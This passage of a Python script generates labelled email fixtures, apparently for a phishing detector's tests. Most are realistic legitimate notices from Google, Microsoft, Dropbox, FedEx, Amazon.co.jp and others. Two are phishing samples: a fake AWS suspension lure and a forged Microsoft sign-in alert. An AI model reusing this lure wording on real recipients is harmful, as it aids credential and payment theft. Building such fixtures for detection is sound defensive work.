        "the release notes: " + ses("https://docs.tailspintoys.example/"
                                    "release-notes/2026-11", 2) +
        "\n\nUnsubscribe: " + ses("https://www.tailspintoys.example/email/"
                                  "unsubscribe?t=Qm9hcmRz", 3) + "\n")
    html = (
        '<html><body style="background:#fafafa"><div style="display:none;'
        'max-height:0;overflow:hidden">Shared boards and faster exports'
        '</div><table width="600" align="center" style="background:#ffffff'
        '"><tr><td style="padding:32px"><img src="https://www.tailspintoys'
        '.example/static/email/logo@2x.png" width="150" alt="Tailspin Toys">'
        "<h1>What's new in Studio</h1><h2>Shared boards</h2><p>Invite your "
        'whole team to one board. <a href="' + ses("https://www.tailspintoys"
                                                   ".example/blog/shared-"
                                                   "boards", 1) + '">Learn '
        "more</a></p><h2>Faster exports</h2><p>PDFs now export three times "
        'faster.</p><p><a href="' + ses("https://docs.tailspintoys.example/"
                                        "release-notes/2026-11", 2) + '">'
        'Read the release notes</a></p></td></tr><tr><td style="padding:'
        '16px 32px;font-size:12px;color:#888888">Tailspin Toys, 1200 Main '
        'St, Portland, OR 97201. <a href="' + ses("https://www.tailspintoys"
                                                  ".example/email/"
                                                  "unsubscribe?t=Qm9hcmRz",
                                                  3) + '">Unsubscribe</a>'
        '</td></tr></table><img alt="" src="https://8x2kq4m1.r.us-west-2.'
        'awstrack.me/I0/010101918c2f4a3b-00000004-000000/mZ8qLk2xWp4Vt6Yh"'
        ' style="display:none;width:1px;height:1px"></body></html>\n')
    write("en-121-clean-ses-product-news.eml",
          eop_pass("mail.tailspintoys.example", "54.240.27.5",
                   "tailspintoys.example") +
          headers("Tailspin Toys <news@tailspintoys.example>",
                  "What's new in Studio: shared boards, faster exports") +
          alt(text, html), "clean")

    # Google's new sign-in alert: the reader's address in the text, links
    # through its account chooser with a continue= address on Google.
    alert = ("https://accounts.google.com/AccountChooser?Email=taro.yamada"
             "@contoso.com&continue=https://myaccount.google.com/alert/nt/"
             "1793579400000?rfn%3D325%26rfnc%3D1%26eid%3D-48213377%26et%3D0")
    text = (
        "A new sign-in on Windows\n\ntaro.yamada@contoso.com\n\nWe noticed "
        "a new sign-in to your Google Account on a Windows device. If this "
        "was you, you don't need to do anything. If not, we'll help you "
        "secure your account.\n\nCheck activity: %s\n\nYou can also see "
        "security activity at\nhttps://myaccount.google.com/notifications\n"
        "\nYou received this email to let you know about important changes"
        " to your Google Account and services.\n(c) 2026 Google LLC, 1600 "
        "Amphitheatre Parkway, Mountain View, CA 94043, USA\n" % alert)
    html = (
        '<!DOCTYPE html><html lang="en"><head><meta name="format-detection"'
        ' content="email=no"/><meta name="format-detection" content="date='
        'no"/><style nonce="xQ2r8kP1m">.awl a {color: #FFFFFF; text-'
        "decoration: none;} .abml a {color: #000000; font-family: Roboto-"
        "Medium,Helvetica,Arial,sans-serif; font-weight: bold; text-"
        "decoration: none;}</style></head><body style=\"margin: 0; padding:"
        ' 0;" bgcolor="#FFFFFF"><table width="100%%" height="100%%" style="'
        'min-width: 348px;" border="0" cellspacing="0" cellpadding="0" '
        'lang="en"><tr height="32" style="height: 32px;"><td></td></tr>'
        '<tr align="center"><td><div itemscope itemtype="//schema.org/'
        'EmailMessage"><div itemprop="action" itemscope itemtype="//schema.'
        'org/ViewAction"><link itemprop="url" href="%s"/><meta itemprop="'
        'name" content="Review Activity"/></div></div><table border="0" '
        'cellspacing="0" cellpadding="0" style="padding-bottom: 20px; max-'
        'width: 516px; min-width: 220px;"><tr><td><div style="border-style:'
        " solid; border-width: thin; border-color:#dadce0; border-radius: "
        '8px; padding: 40px 20px;" align="center"><img src="https://www.'
        'gstatic.com/images/branding/googlelogo/2x/googlelogo_color_74x24dp'
        '.png" width="74" height="24" aria-hidden="true" style="margin-'
        'bottom: 16px;" alt="Google"><div style="font-family: \'Google Sans'
        "',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;border-bottom: "
        "thin solid #dadce0; color: rgba(0,0,0,0.87); line-height: 32px; "
        'padding-bottom: 24px;text-align: center; word-break: break-word;">'
        '<div style="font-size: 24px;">A new sign-in on Windows </div><table'
        ' align="center" style="margin-top:8px;"><tr style="line-height: '
        'normal;"><td align="right" style="padding-right:8px;"><img width="'
        '20" height="20" style="width: 20px; height: 20px; vertical-align: '
        'sub; border-radius: 50%%;" src="https://lh3.googleusercontent.com/'
        'a/default-user=s96-c" alt=""></td><td><a style="font-family: '
        "'Google Sans',Roboto,RobotoDraft,Helvetica,Arial,sans-serif;color:"
        ' rgba(0,0,0,0.87); font-size: 14px; line-height: 20px;">taro.yamada'
        '@contoso.com</a></td></tr></table> </div><div style="font-family: '
        "Roboto-Regular,Helvetica,Arial,sans-serif; font-size: 14px; color:"
        ' rgba(0,0,0,0.87); line-height: 20px;padding-top: 20px; text-align:'
        ' left;">We noticed a new sign-in to your Google Account on a '
        "Windows device. If this was you, you don't need to do anything. If"
        " not, we'll help you secure your account.<div style=\"padding-top:"
        ' 32px; text-align: center;"><a href="%s" target="_blank" link-id='
        '"main-button-link" style="font-family: \'Google Sans\',Roboto,'
        "RobotoDraft,Helvetica,Arial,sans-serif; line-height: 16px; color: "
        "#ffffff; font-weight: 400; text-decoration: none;font-size: 14px;"
        "display:inline-block;padding: 10px 24px;background-color: #4184F3;"
        ' border-radius: 5px; min-width: 90px;">Check activity</a></div>'
        '</div><div style="padding-top: 20px; font-size: 12px; line-height:'
        ' 16px; color: #5f6368; letter-spacing: 0.3px; text-align: center">'
        'You can also see security activity at<br><a style="color: rgba(0, '
        '0, 0, 0.87);text-decoration: inherit;">https://myaccount.google.'
        'com/notifications</a></div></div><div style="text-align: left;">'
        '<div style="font-family: Roboto-Regular,Helvetica,Arial,sans-'
        "serif;color: rgba(0,0,0,0.54); font-size: 11px; line-height: 18px;"
        ' padding-top: 12px; text-align: center;"><div>You received this '
        "email to let you know about important changes to your Google "
        'Account and services.</div><div style="direction: ltr;">&copy; '
        '2026 Google LLC, <a class="afal" style="font-family: Roboto-'
        "Regular,Helvetica,Arial,sans-serif;color: rgba(0,0,0,0.54); font-"
        'size: 11px; line-height: 18px; padding-top: 12px; text-align: '
        'center;">1600 Amphitheatre Parkway, Mountain View, CA 94043, USA'
        "</a></div></div></div></td></tr></table></td></tr></table></body>"
        "</html>\n" % (alert.replace("&", "&amp;"),
                       alert.replace("&", "&amp;")))
    write("en-122-clean-google-signin.eml",
          eop_pass("accounts.google.com", "209.85.220.73", "accounts."
                   "google.com") +
          headers("Google <no-reply@accounts.google.com>",
                  "Security alert") + alt(text, html), "clean",
          "!content.address_greeting")

    # A partner shares a Google Doc: Drive writes in the sharer's name
    # from its own address, the link goes to docs.google.com.
    doc = ("https://docs.google.com/document/d/1AbCdEfGhIjKlMnOpQrStUvWxYz0"
           "123456789aBcDeFgHi/edit?usp=sharing_eil_m&ts=6725e3a8")
    text = (
        "Alice Brown shared a document\n\nAlice Brown (alice@fabrikam.com) "
        "has invited you to edit the following document:\n\nContract review"
        " notes\n%s\n\nOpen: %s\n\nGoogle LLC, 1600 Amphitheatre Parkway, "
        "Mountain View, CA 94043, USA\nYou have received this email because"
        " alice@fabrikam.com shared a document with you from Google Docs.\n"
        % (doc, doc))
    html = (
        '<!doctype html><html lang="en"><head></head><body><div style="'
        'display:none;font-size:1px;color:#ffffff;line-height:1px;max-'
        'height:0px;max-width:0px;opacity:0;overflow:hidden">Alice Brown '
        "has invited you to edit the following document</div><table "
        'role="presentation" style="width:100%%;max-width:600px"><tr><td '
        'style="padding:24px"><img src="https://ssl.gstatic.com/docs/'
        'documents/share/images/services/document-2.png" width="40" alt="'
        'Google Docs"></td></tr><tr><td style="font-family:\'Google Sans\','
        'Roboto,Arial,sans-serif;font-size:22px;color:#202124">Alice Brown '
        'shared a document</td></tr><tr><td style="padding:16px 0"><img '
        'src="https://lh3.googleusercontent.com/a/ACg8ocL2x9Wp4Kq7=s50-c-k'
        '-no" width="50" height="50" alt="" style="border-radius:50%%"> '
        'Alice Brown (<a href="mailto:alice@fabrikam.com">alice@fabrikam.'
        "com</a>) has invited you to <b>edit</b> the following document:"
        '</td></tr><tr><td style="border:1px solid #dadce0;border-radius:'
        '8px;padding:12px"><a href="%s" style="color:#3c4043;text-'
        'decoration:none"><img src="https://ssl.gstatic.com/docs/doclist/'
        'images/mediatype/icon_1_document_x32.png" width="20" alt=""> '
        'Contract review notes</a></td></tr><tr><td style="padding:24px 0">'
        '<a href="%s" style="background:#1a73e8;color:#ffffff;padding:10px '
        '24px;border-radius:4px;text-decoration:none">Open</a></td></tr>'
        '<tr><td style="font-size:12px;color:#5f6368"><img src="https://'
        'www.gstatic.com/images/branding/googlelogo/2x/googlelogo_grey_tm_'
        'color_96x40dp.png" width="96" alt="Google"><br>Google LLC, 1600 '
        "Amphitheatre Parkway, Mountain View, CA 94043, USA<br>You have "
        "received this email because alice@fabrikam.com shared a document "
        '<a href="https://workspace.google.com/products/docs/">Google Docs'
        '</a> logo with you from Google Docs.</td></tr></table></body>'
        "</html>\n" % (doc, doc))
    write("en-123-clean-google-docs-share.eml",
          eop_pass("google.com", "209.85.220.69", "google.com") +
          headers('"Alice Brown (via Google Docs)" <drive-shares-dm-noreply'
                  '@google.com>',
                  'Document shared with you: "Contract review notes"',
                  "Reply-To: Alice Brown <alice@fabrikam.com>\n") +
          alt(text, html), "clean", "url.free_hosting")

    # Microsoft 365's quarantine digest: the mail phishers copy to get
    # passwords, here real, linking to the Defender portal.
    q = "https://security.microsoft.com/quarantine?viewid=Email&id=%s"
    rows = ""
    for sender, subj, n in (
            ("news@tailspin-air.example", "Your November miles statement",
             "c9d3f1a2-5b6e-4c7d-8e9f-0a1b2c3d4e5f"),
            ("offers@wideworldimporters.example", "Last chance: 40% off "
             "office chairs", "d0e4a2b3-6c7f-4d8e-9fa0-1b2c3d4e5f60")):
        rows += (
            '<tr><td style="padding:8px;border-bottom:1px solid #edebe9">'
            "Sender: %s<br>Subject: %s<br>Date: 11/1/2026 11:48:02 PM<br>"
            '<a href="%s">Review message</a> | <a href="https://security.'
            'microsoft.com/quarantine?viewid=Email&amp;id=%s&amp;action='
            'release">Release</a></td></tr>' % (sender, subj, q % n, n))
    text = (
        "Review These Messages\n\n2 messages are being held for you to "
        "review as of 11/2/2026 12:00:00 AM (UTC).\n\nReview them within 30"
        " days of the received date by going to the Quarantine page in the "
        "Security Center: https://security.microsoft.com/quarantine?viewid="
        "Email\n\nSender: news@tailspin-air.example\nSubject: Your November"
        " miles statement\n\nSender: offers@wideworldimporters.example\n"
        "Subject: Last chance: 40% off office chairs\n\n(c) 2026 Microsoft "
        "Corporation. All rights reserved. Privacy Statement: https://go."
        "microsoft.com/fwlink/?LinkId=521839\nAcceptable Use Policy: "
        "https://go.microsoft.com/fwlink/?LinkId=2156203\n")
    html = (
        '<html><body><table width="100%" style="font-family:\'Segoe UI\','
        'Tahoma,sans-serif;font-size:14px;color:#323130"><tr><td style="'
        'padding:16px"><img src="https://res.cdn.office.net/assets/mail/'
        'logos/microsoft_logo.png" width="108" alt="Microsoft"></td></tr>'
        '<tr><td style="font-size:24px;padding:16px">Review These Messages'
        '</td></tr><tr><td style="padding:16px">2 messages are being held '
        "for you to review as of 11/2/2026 12:00:00 AM (UTC).<br><br>Review "
        "them within 30 days of the received date by going to the <a href="
        '"https://security.microsoft.com/quarantine?viewid=Email">'
        "Quarantine page</a> in the Security Center.</td></tr>" + rows +
        '<tr><td style="padding:16px;font-size:12px;color:#605e5c">&copy; '
        '2026 Microsoft Corporation. All rights reserved. <a href="https://'
        'go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement</a> | '
        '<a href="https://go.microsoft.com/fwlink/?LinkId=2156203">'
        "Acceptable Use Policy</a></td></tr></table></body></html>\n")
    write("en-124-clean-m365-quarantine.eml",
          eop_pass("microsoft.com", "40.107.22.44") +
          headers("Microsoft 365 Security <quarantine@messaging.microsoft."
                  "com>", "Microsoft 365 security: You have messages in "
                  "quarantine") + alt(text, html), "clean")

    # The tenant's monthly invoice from Microsoft, linking to the admin
    # centre.
    text = (
        "Your Microsoft invoice G017284963 is ready\n\nBilling account: "
        "Contoso Ltd\nBilling profile: Contoso Ltd\nInvoice date: 11/01/"
        "2026\nAmount due: JPY 184,800\nDue date: 12/01/2026\n\nView and "
        "download your invoice in the Microsoft 365 admin center: https://"
        "admin.microsoft.com/Adminportal/Home#/billoverview/invoice-list\n\n"
        "You're receiving this email because you're a Billing Administrator"
        " for your organization's account.\n\nMicrosoft Corporation, One "
        "Microsoft Way, Redmond, WA 98052 USA\nPrivacy Statement: https://"
        "go.microsoft.com/fwlink/?LinkId=521839\n")
    html = (
        '<html><body style="background:#ffffff"><table width="100%" style='
        '"max-width:640px;font-family:\'Segoe UI\',Arial,sans-serif;color:'
        '#000000"><tr><td style="padding:24px"><img src="https://img-prod-'
        'cms-rt-microsoft-com.akamaized.net/cms/api/am/imageFileData/RE1Mu3'
        'b?ver=5c31" width="108" alt="Microsoft"></td></tr><tr><td style="'
        'padding:0 24px;font-size:28px">Your invoice is ready</td></tr><tr>'
        '<td style="padding:24px"><table><tr><td>Invoice number</td><td>'
        "G017284963</td></tr><tr><td>Billing account</td><td>Contoso Ltd"
        "</td></tr><tr><td>Invoice date</td><td>11/01/2026</td></tr><tr>"
        "<td>Amount due</td><td><b>JPY 184,800</b></td></tr><tr><td>Due date"
        '</td><td>12/01/2026</td></tr></table></td></tr><tr><td style="'
        'padding:0 24px"><a href="https://admin.microsoft.com/Adminportal/'
        'Home#/billoverview/invoice-list" style="background:#0078d4;color:'
        '#ffffff;padding:10px 20px;text-decoration:none">View invoice</a>'
        '</td></tr><tr><td style="padding:24px;font-size:12px;color:'
        '#616161">You\'re receiving this email because you\'re a Billing '
        "Administrator for your organization's account.<br>Microsoft "
        'Corporation, One Microsoft Way, Redmond, WA 98052 USA<br><a href="'
        'https://go.microsoft.com/fwlink/?LinkId=521839">Privacy Statement'
        "</a></td></tr></table></body></html>\n")
    write("en-125-clean-ms-invoice.eml",
          eop_pass("microsoft.com", "40.107.22.45") +
          headers("Microsoft <microsoft-noreply@microsoft.com>",
                  "Your Microsoft invoice G017284963 is ready") +
          alt(text, html), "clean")

    # A social network's post digest: the posts' links through its own
    # shortener.
    text = (
        "Northwind Books posted\n\nNorthwind Books @northwindbooks\nOur "
        "winter reading list is out: ten novels for long evenings "
        "https://t.co/Xk3q9PzLm2\n\nView post: https://x.com/northwindbooks"
        "/status/1853012345678901234\n\nUnsubscribe: https://x.com/i/"
        "settings/email_notifications\n\nX Corp. 1355 Market Street, Suite"
        " 900 San Francisco, CA 94103\n")
    html = (
        '<html><body><table width="100%" style="max-width:600px"><tr><td '
        'style="padding:20px"><img src="https://abs.twimg.com/email/x_logo_'
        '32.png" width="24" alt="X"></td></tr><tr><td style="font-family:'
        'Helvetica,Arial,sans-serif;font-size:16px"><img src="https://pbs.'
        'twimg.com/profile_images/1711111111111111111/AbC12dEf_normal.jpg" '
        'width="48" height="48" style="border-radius:50%" alt=""> <b>'
        "Northwind Books</b> @northwindbooks<br><br>Our winter reading list"
        ' is out: ten novels for long evenings <a href="https://t.co/'
        'Xk3q9PzLm2">northwindbooks.com/winter</a></td></tr><tr><td style='
        '"padding:20px 0"><a href="https://x.com/northwindbooks/status/'
        '1853012345678901234?cn=ZmxleGlibGVfcmVjcw%3D%3D&amp;refsrc=email"'
        ' style="background:#1d9bf0;color:#ffffff;padding:10px 20px;border-'
        'radius:20px;text-decoration:none">View post</a></td></tr><tr><td '
        'style="font-size:12px;color:#8899a6">This email was meant for @'
        'taro_yamada. <a href="https://x.com/i/settings/email_notifications'
        '">Unsubscribe</a><br>X Corp. 1355 Market Street, Suite 900 San '
        'Francisco, CA 94103</td></tr></table><img src="https://x.com/'
        'scribe/ibis?t=1&amp;cn=ZmxleGlibGVfcmVjcw%3D%3D&amp;iid=a1b2c3d4'
        '&amp;uid=1234567890" width="1" height="1" alt=""></body></html>\n')
    write("en-126-clean-x-post.eml", headers(
        "X <notify@x.com>", "Northwind Books posted: Our winter reading "
        "list is out") + alt(text, html), "clean")

    # Dropbox shares a folder in the sharer's name.
    fold = ("https://www.dropbox.com/scl/fo/4kq7x2m9p1w3z5v8b0n6c/h?rlkey="
            "a1b2c3d4e5f6g7h8i9j0k1l2m&dl=0&e=1&st=9zq2xk4m")
    text = (
        "Alice Brown shared \"Site photos\" with you\n\nAlice Brown "
        "(alice@fabrikam.com) invited you to view the folder \"Site photos"
        "\" on Dropbox.\n\nGo to folder: %s\n\nEnjoy!\nThe Dropbox team\n\n"
        "Dropbox, Inc., PO Box 77767, San Francisco, CA 94107\n" % fold)
    html = (
        '<html><body><table width="100%%" style="max-width:600px;font-family:'
        'Helvetica,Arial,sans-serif"><tr><td style="padding:24px"><img src='
        '"https://cfl.dropboxstatic.com/static/images/emails/glyph/glyph_'
        'blue_2x.png" width="36" alt="Dropbox"></td></tr><tr><td style="'
        'padding:0 24px;font-size:20px">Alice Brown shared "Site photos" '
        'with you</td></tr><tr><td style="padding:16px 24px">Alice Brown ('
        '<a href="mailto:alice@fabrikam.com">alice@fabrikam.com</a>) invited'
        ' you to view the folder "Site photos" on Dropbox.</td></tr><tr><td'
        ' style="padding:16px 24px"><a href="%s" style="background:#0061fe;'
        'color:#ffffff;padding:10px 20px;border-radius:4px;text-decoration:'
        'none">Go to folder</a></td></tr><tr><td style="padding:16px 24px">'
        'Enjoy!<br>The Dropbox team</td></tr><tr><td style="padding:24px;'
        'font-size:11px;color:#637282">Dropbox, Inc., PO Box 77767, San '
        'Francisco, CA 94107<br><a href="https://www.dropbox.com/account/'
        'notifications">Notification settings</a></td></tr></table><img '
        'src="https://www.dropbox.com/l/AADx4kq7Pz2mW9vN3b0c6/open" width='
        '"1" height="1" alt=""></body></html>\n' % fold)
    write("en-127-clean-dropbox-share.eml", headers(
        "Alice Brown (via Dropbox) <no-reply@dropbox.com>",
        'Alice Brown shared "Site photos" with you',
        "Reply-To: Alice Brown <alice@fabrikam.com>\n") + alt(text, html),
        "clean", "!sender.replyto_mismatch")

    # A small shop's order confirmation written by Shopify.
    text = (
        "Northwind Coffee Roasters\nOrder #1042\n\nThank you for your "
        "purchase!\nHi Taro, we're getting your order ready to be shipped. "
        "We will notify you when it has been sent.\n\nView your order: "
        "https://northwind-coffee.example/70391234567/orders/9a8b7c6d5e4f3a2"
        "b1c0d/authenticate?key=4f3e2d1c0b9a8f7e\n\nOr visit our store: "
        "https://northwind-coffee.example\n\nOrder summary\nEthiopia "
        "Yirgacheffe 250g x 2  $36.00\nSubtotal $36.00\nShipping $6.00\n"
        "Taxes $3.78\nTotal $45.78 USD\n\nIf you have any questions, reply "
        "to this email or contact us at hello@northwind-coffee.example\n")
    html = (
        '<html><head><style>.button__cell { background: #6f4e37; }</style>'
        '</head><body><table class="body"><tr><td><table class="header row"'
        '><tr><td><img src="https://cdn.shopify.com/s/files/1/0703/9123/'
        '4567/files/logo.png?1698912345" width="180" alt="Northwind Coffee '
        'Roasters"></td><td align="right">Order #1042</td></tr></table>'
        "<h2>Thank you for your purchase!</h2><p>Hi Taro, we're getting your"
        " order ready to be shipped. We will notify you when it has been "
        'sent.</p><table class="row actions"><tr><td class="button__cell">'
        '<a href="https://northwind-coffee.example/70391234567/orders/9a8b7'
        'c6d5e4f3a2b1c0d/authenticate?key=4f3e2d1c0b9a8f7e" class="button__'
        'text">View your order</a></td><td>or <a href="https://northwind-'
        'coffee.example">Visit our store</a></td></tr></table><h3>Order '
        'summary</h3><table class="row"><tr><td><img src="https://cdn.'
        'shopify.com/s/files/1/0703/9123/4567/products/yirgacheffe_compact'
        '_cropped.jpg?v=1698000000" width="60" alt=""></td><td>Ethiopia '
        "Yirgacheffe 250g &times; 2</td><td>$36.00</td></tr></table><table>"
        "<tr><td>Subtotal</td><td>$36.00</td></tr><tr><td>Shipping</td><td>"
        "$6.00</td></tr><tr><td>Taxes</td><td>$3.78</td></tr><tr><td><b>"
        "Total</b></td><td><b>$45.78 USD</b></td></tr></table><p>If you "
        'have any questions, reply to this email or contact us at <a href='
        '"mailto:hello@northwind-coffee.example">hello@northwind-coffee.'
        'example</a></p></td></tr></table><img src="https://northwind-'
        'coffee.example/tools/emails/open/order/9a8b7c6d5e4f3a2b1c0d" '
        'width="1" height="1" alt=""></body></html>\n')
    write("en-128-clean-shopify-order.eml", headers(
        "Northwind Coffee Roasters <store+70391234567@t.shopifyemail.com>",
        "Order #1042 confirmed",
        "Reply-To: hello@northwind-coffee.example\n") + alt(text, html),
        "clean", "sender.replyto_mismatch")

    # FedEx's delivery notice from its own domain.
    trk = ("https://www.fedex.com/fedextrack/?trknbr=771234567890&trkqual="
           "2461000~771234567890~FDEG&cntry_code=us&locale=en_US")
    text = (
        "Your package is scheduled for delivery today\n\nHi. Your package "
        "will be delivered today between 1:30 PM and 5:30 PM.\n\nTracking "
        "ID: 771234567890\nShip date: Thu 10/29/2026\nScheduled delivery: "
        "Mon 11/02/2026 between 1:30 PM - 5:30 PM\nShipper: Wide World "
        "Importers\n\nTrack your package: %s\n\nManage your delivery "
        "preferences with FedEx Delivery Manager: https://www.fedex.com/en-"
        "us/delivery-manager.html\n\nPlease do not respond to this message."
        " This email was sent from an unattended mailbox.\n\n(c) 2026 "
        "Federal Express Corporation. The content of this message is "
        "protected by copyright and trademark laws under U.S. and "
        "international law.\n" % trk)
    html = (
        '<html><body><table width="100%%" style="max-width:600px;font-family'
        ':Arial,sans-serif"><tr><td style="background:#4d148c;padding:16px'
        '"><img src="https://www.fedex.com/content/dam/fedex-com/logos/'
        'logo.png" width="100" alt="FedEx"></td></tr><tr><td style="padding'
        ':24px;font-size:22px">Your package is scheduled for delivery today'
        '</td></tr><tr><td style="padding:0 24px">Hi. Your package will be '
        "delivered today between <b>1:30 PM and 5:30 PM</b>.</td></tr><tr>"
        '<td style="padding:24px"><table><tr><td>Tracking ID</td><td><a '
        'href="%s">771234567890</a></td></tr><tr><td>Ship date</td><td>Thu '
        "10/29/2026</td></tr><tr><td>Shipper</td><td>Wide World Importers"
        '</td></tr></table></td></tr><tr><td style="padding:0 24px"><a '
        'href="%s" style="background:#ff6200;color:#ffffff;padding:12px '
        '24px;text-decoration:none">TRACK YOUR PACKAGE</a></td></tr><tr><td'
        ' style="padding:24px;font-size:11px;color:#666666">Please do not '
        "respond to this message. This email was sent from an unattended "
        "mailbox.<br>&copy; 2026 Federal Express Corporation.</td></tr>"
        "</table></body></html>\n" % (trk.replace("&", "&amp;"),
                                        trk.replace("&", "&amp;")))
    write("en-129-clean-fedex-delivery.eml",
          eop_pass("fedex.com", "199.81.194.38") +
          headers("FedEx Delivery Manager <TrackingUpdates@fedex.com>",
                  "Your package is scheduled for delivery today") +
          alt(text, html), "clean")


    # What the exemptions above do not cover.  AWS's name from elsewhere,
    # linking to a bucket called sns (not AWS's notification service):
    # amazonaws.com backs a sender, never a link.
    write("en-130-aws-name-bucket.eml", headers(
        "AWS Notifications <alerts@cloud-billing-notice.example>",
        "Your AWS account has been suspended") +
        "Content-Type: text/html; charset=utf-8\n\n<html><body><p>We "
        "could not charge your payment method and your AWS account has been"
        " suspended. Update your payment details within 24 hours to avoid "
        "the deletion of your resources.</p><p><a href=\"https://sns.s3."
        "amazonaws.com/billing/update.html\">Update payment method</a></p>"
        "</body></html>\n", "threat", "sender.display_brand",
        "url.free_hosting")
    # Microsoft's sign-in alert, word for word and linking only to
    # Microsoft, that Exchange Online found forged: its wording counts.
    write("en-131-brand-home-forged.eml",
          "Authentication-Results: spf=fail (sender IP is 203.0.113.77) "
          "smtp.mailfrom=accountprotection.microsoft.com; dkim=none "
          "(message not signed) header.d=none;dmarc=fail action=oreject "
          "header.from=accountprotection.microsoft.com;compauth=fail "
          "reason=000\n" +
          headers("Microsoft account team <account-security-noreply@"
                  "accountprotection.microsoft.com>",
                  "Microsoft account unusual sign-in activity") +
          "Content-Type: text/plain; charset=utf-8\n\nWe detected "
          "something unusual about a recent sign-in to the Microsoft "
          "account ta*****@contoso.com. Please go to your recent activity "
          "page to let us know whether or not this was you.\n\nReview "
          "recent activity: https://account.live.com/Activity\n",
          "threat", "sender.spoof_brand", "content.credential_request")

def jheaders(frm_name, frm_addr, subject, charset="ISO-2022-JP",
             extra=""):
    """Headers of Japanese mail: name and subject as encoded words."""
    def enc(s):
        if charset == "ISO-2022-JP":
            return ew(None, charset, jis(s))
        return uhdr(s)
    mid = sum(ord(c) * (i + 1) for i, c in enumerate(subject)) % 10**9
    return ("From: %s <%s>\nTo: taro.yamada@contoso.com\nSubject: %s\n"
            "Date: %s\nMessage-ID: <%d@mail.test>\nMIME-Version: 1.0\n%s"
            % (enc(frm_name), frm_addr, enc(subject), DATE, mid, extra))


def jis_plain(text):
    """A text/plain body in ISO-2022-JP, as Japanese senders send it."""
    return (b'Content-Type: text/plain; charset="ISO-2022-JP"\n'
            b"Content-Transfer-Encoding: 7bit\n\n" + jis(text) + b"\n")


def modern_ja_samples():
    """Japanese legitimate mail of the same kinds: orders, deliveries, a
    bank's login notice, a card's use notice, the company's own notice,
    Microsoft's code in Japanese."""
    # Amazon.co.jp's order confirmation, HTML in UTF-8 through its own
    # redirector.
    def amz(u):
        return ("https://www.amazon.co.jp/gp/r.html?C=1M2N3B4V5C6X7&K=2Q3W4"
                "E5R6T7Y&M=urn:rtn:msg:20261102001234b1c2d3e4f5&R=3XK9QZ2M"
                "7B1W&T=C&U=" + u.replace(":", "%3A").replace("/", "%2F") +
                "&H=QZ8K2M4X7B1W9N3V5C6X7Z8A&ref_=pe_2110320_129390410")
    text = (
        "Amazon.co.jp ご注文の確認\n\n山田 太郎 様\n\nAmazon.co.jp をご利用"
        "いただき、ありがとうございます。お客様のご注文を承りましたのでお知"
        "らせいたします。\n\nお届け予定: 11月4日 水曜日\n\n注文番号: 503-"
        "4839201-7764213\n\nAnker PowerCore 10000 (モバイルバッテリー)\n"
        "数量: 1\n￥2,990\n\n注文合計: ￥2,990\n\n注文内容の確認・変更: "
        "https://www.amazon.co.jp/gp/css/your-orders-access\n\nこのメール"
        "アドレスは配信専用です。このメッセージに返信しないようお願いいたし"
        "ます。\n\n©2026 Amazon.com, Inc. or its affiliates. Amazon.co.jp"
        " および Amazon.co.jp ロゴは Amazon.com, Inc. またはその関連会社の"
        "商標です。\n")
    html = (
        '<html lang="ja"><head><meta http-equiv="Content-Type" content="'
        'text/html; charset=UTF-8"></head><body><div style="display:none;'
        'max-height:0;overflow:hidden">お届け予定: 11月4日 水曜日' + PAD +
        '</div><table width="100%" style="max-width:640px;font-family:'
        "'Hiragino Kaku Gothic ProN',Meiryo,Arial,sans-serif\"><tr><td><a "
        'href="' + amz("https://www.amazon.co.jp/?ref_=pe_logo") + '"><img '
        'src="https://m.media-amazon.com/images/G/09/outbound/Outbound'
        'Templates/Amazon_logo_JP._BG255,255,255_.png" width="101" alt="'
        'Amazon.co.jp"></a></td><td align="right">ご注文の確認<br>注文番号 '
        '<a href="' + amz("https://www.amazon.co.jp/gp/css/summary/edit."
                          "html?orderID=503-4839201-7764213") + '">503-'
        "4839201-7764213</a></td></tr><tr><td colspan=\"2\" style=\"padding:"
        '16px 0">山田 太郎 様<br><br>Amazon.co.jp をご利用いただき、ありが'
        "とうございます。お客様のご注文を承りましたのでお知らせいたします。"
        "</td></tr><tr><td colspan=\"2\"><b>お届け予定:</b> 11月4日 水曜日"
        '</td></tr><tr><td colspan="2" style="padding:16px 0"><a href="' +
        amz("https://www.amazon.co.jp/gp/css/your-orders-access") + '" '
        'style="background:#ffd814;border-radius:20px;padding:8px 24px;'
        'color:#0f1111;text-decoration:none">注文内容を表示または変更する'
        '</a></td></tr><tr><td><a href="' + amz("https://www.amazon.co.jp/"
                                                "dp/B07QXV6N1B") + '"><img '
        'src="https://m.media-amazon.com/images/I/41Xk2Bf9PzL._SS142_.jpg" '
        'width="100" alt=""></a></td><td>Anker PowerCore 10000 (モバイル'
        "バッテリー)<br>数量: 1<br>￥2,990</td></tr><tr><td colspan=\"2\" "
        'style="padding:16px 0"><b>注文合計: ￥2,990</b></td></tr><tr><td '
        'colspan="2" style="font-size:12px;color:#565959">このメールアドレス'
        "は配信専用です。このメッセージに返信しないようお願いいたします。"
        "<br>&copy;2026 Amazon.com, Inc. or its affiliates. Amazon.co.jp "
        "および Amazon.co.jp ロゴは Amazon.com, Inc. またはその関連会社の"
        "商標です。</td></tr></table></body></html>\n")
    write("ja-10-clean-amazon-order-utf8.eml",
          eop_pass("amazon.co.jp", "52.95.48.101") +
          jheaders("Amazon.co.jp", "auto-confirm@amazon.co.jp",
                   "Amazon.co.jp ご注文の確認「Anker PowerCore 10000」",
                   "UTF-8") + alt(text, html), "clean")

    # 楽天市場's order confirmation: plain text in ISO-2022-JP, the
    # shop's telephone number at the end.
    text = (
        "山田 太郎 様\n\nこの度は楽天市場でのお買い物、誠にありがとうござい"
        "ます。\n下記の内容でご注文を承りました。\n\n"
        "このメールはご注文を受け付けた時点で自動的に送信されています。\n"
        "ショップからの確認メールをもって、ご注文の確定となります。\n\n"
        "■ご注文内容の確認・キャンセルは購入履歴から\n"
        "https://order.my.rakuten.co.jp/?l-id=pc_header_func_ph\n\n"
        "[受注番号] 284931-20261102-0012345678\n"
        "[日時]     2026-11-02 09:12:34\n"
        "[注文者]   山田 太郎 様\n"
        "[支払方法] クレジットカード\n"
        "[配送方法] 宅配便\n\n"
        "[商品]\nエチオピア イルガチェフェ 200g（豆のまま）\n"
        "価格  1,980(円) x 2(個) = 3,960(円)\n\n"
        "************************************************************\n"
        "小計     3,960(円)\n送料       550(円)\n"
        "合計     4,510(円)\n"
        "************************************************************\n\n"
        "■ショップ情報\nノースウインド珈琲店\n"
        "https://www.rakuten.co.jp/northwind-coffee/\n"
